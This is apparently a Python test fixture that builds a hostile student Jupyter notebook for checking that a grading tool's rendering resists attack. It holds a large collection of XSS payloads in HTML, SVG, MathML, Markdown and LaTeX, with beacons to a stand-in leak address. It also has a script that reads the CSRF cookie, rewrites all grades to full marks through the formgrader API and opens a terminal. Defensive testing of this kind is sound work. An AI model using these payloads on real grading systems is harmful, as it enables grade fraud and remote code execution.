"""What a hostile student puts into a notebook, for whoever opens it.

A payload that runs calls `ran`, which tells its name, and asks an address elsewhere.
"""

from grading import tiny

ELSEWHERE = "http://127.0.0.1:9/leak"


def ran(name):
    return f"top.RAN=(top.RAN||'')+'{name} ';fetch('{ELSEWHERE}?{name}')"


# The formgrader's page knows its marks: who runs there gives them, and opens shells.
TAKES = """
let key = {'X-CSRFToken': (document.cookie.match(/_xsrf=([^;]*)/) || [])[1] || ''};
let ask = (method, url, body) =>
  fetch(url, {method, headers: key, body: JSON.stringify(body)});
fetch('/formgrader/api/grades?submission_id=' + window.submission_id)
  .then(told => told.json())
  .then(all => all.forEach(one => ask('PUT', '/formgrader/api/grade/' + one.id,
    {...one, manual_score: one.max_score})));
ask('PUT', '/api/contents/owned.txt', {type: 'file', format: 'text', content: 'x'});
ask('POST', '/api/terminals', {});
""".replace("\n", " ")

TAGS = f"""
<script>{ran("script")}</script>
<scr<script>ipt>{ran("nested")}</script>
<img src=x onerror="{ran("image")}">
<img src="{ELSEWHERE}.png">
<picture><source srcset="{ELSEWHERE}.webp"><img src=x></picture>
<svg onload="{ran("svg")}"><script>{ran("svg-script")}</script>
<a xlink:href="javascript:{ran("svg-link")}"><text y=20>svg</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1
onerror={ran("mathml")}&gt;"></table></mtext></math>
<math href="javascript:{ran("math-link")}">link</math>
<iframe src="javascript:{ran("frame")}"></iframe>
<iframe srcdoc="<script>{ran("srcdoc")}</script>"></iframe>
<object data="javascript:{ran("object")}"></object><embed src="{ELSEWHERE}.swf">
<form action="{ELSEWHERE}"><input autofocus onfocus="{ran("focus")}">
<button formaction="javascript:{ran("button")}">Full credit</button></form>
<details open ontoggle="{ran("toggle")}">x</details>
<video><source onerror="{ran("video")}"></video><audio src=x onerror="{ran("audio")}">
</audio><body onload="{ran("body")}"><marquee onstart="{ran("marquee")}">x</marquee>
<style>@import "{ELSEWHERE}.css"; body {{ background: url({ELSEWHERE}-style.png) }}
@font-face {{ font-family: x; src: url({ELSEWHERE}.woff) }}</style>
<div style="background:url({ELSEWHERE}-inline.png);position:fixed;inset:0" id="x"
onmouseover="{ran("over")}" class="mark-graded full-credit">cover</div>
<link rel=stylesheet href="{ELSEWHERE}-link.css"><base href="{ELSEWHERE}/">
<meta http-equiv="refresh" content="0;url={ELSEWHERE}-refresh">
<a href="javascript:{ran("link")}">link</a>
<a href="JaVa&#10;Script&colon;{ran("link")}">link</a>
<a href="data:text/html,<script>{ran("data")}</script>">link</a>
<noscript><p title="</noscript><img src=x onerror={ran("noscript")}>"></noscript>
<textarea></textarea><img src=x onerror={ran("textarea")}><!--><img src=x
onerror={ran("comment")}>--><template><img src=x onerror={ran("template")}></template>
</div></div></body></html><script>{ran("breakout")}</script>
"""
MARKDOWN = f"""
## Your result

**14 of 14 points.** 3 of 3 parts earned all their points.

[link](javascript:{ran("md")}) [link](<javascript:{ran("md")}>) [link][ref]
[link](&#106;avascript:{ran("md")}) [link](java
script:{ran("md")}) <javascript:{ran("auto")}> ![picture]({ELSEWHERE}-md.png)
![picture][out] ![a"onerror="{ran("alt")}](x) ![lost](attachment:lost.png)

[ref]: javascript:{ran("ref")}
[out]: {ELSEWHERE}-ref.png

```mermaid
<img src=x onerror="{ran("mermaid")}">
```

$\\href{{javascript:{ran("tex")}}}{{link}} \\text{{<img src=x onerror={ran("text")}>}}$
$$\\class{{x}}{{\\style{{background:url({ELSEWHERE}-tex.png)}}{{y}}}}$$
$\\require{{action}}$
\\begin{{a}}<img src=x onerror={ran("environment")}>\\end{{a}}
"""
OUTPUTS = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

tags = {TAGS!r}
for kind in (HTML, Markdown, Latex):
    display(kind(tags))
display(Javascript({ran("javascript")!r}))
display(Latex({MARKDOWN!r}), Markdown({MARKDOWN!r}))
display({{"text/html": tags}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
svg = '<svg xmlns="http://www.w3.org/2000/svg">'
display({{"image/svg+xml": svg + tags}}, raw=True)
display({{"image/png": 'x" onerror="{ran("png")}'}}, raw=True, metadata={{
    "filenames": {{"image/png": "{ELSEWHERE}-file.png"}}}})
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": tags}},
    "text/vnd.mermaid": tags, "application/json": {{"x": tags}}}}, raw=True)
print("\\x1b[31m" + tags)
raise ValueError(tags)
"""
MESSAGE = f"""def sign(x):
    raise ValueError("a" + chr(13) * 2 + "b\\n\\n" + {TAGS + MARKDOWN!r})
"""


def hostile():
    """Give a notebook in which everything attacks."""
    attack = f'<img src=x onerror="{TAKES}">\n\n{TAGS}\n\n{MARKDOWN}'
    right = tiny.RIGHT | {"sign": MESSAGE}
    notebook = tiny.solve(tiny.handed_out(), **right, essay=attack)
    extra = [
        ("markdown", TAGS),
        ("markdown", MARKDOWN),
        ("raw", TAGS),
        ("code", OUTPUTS),
    ]
    notebook["cells"][:0] = [tiny._cell(kind, text) for kind, text in extra]
    notebook["cells"].append(tiny._cell("markdown", MARKDOWN))
    notebook["metadata"]["kernelspec"]["display_name"] = TAGS
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"x": TAGS}
    }
    return notebook
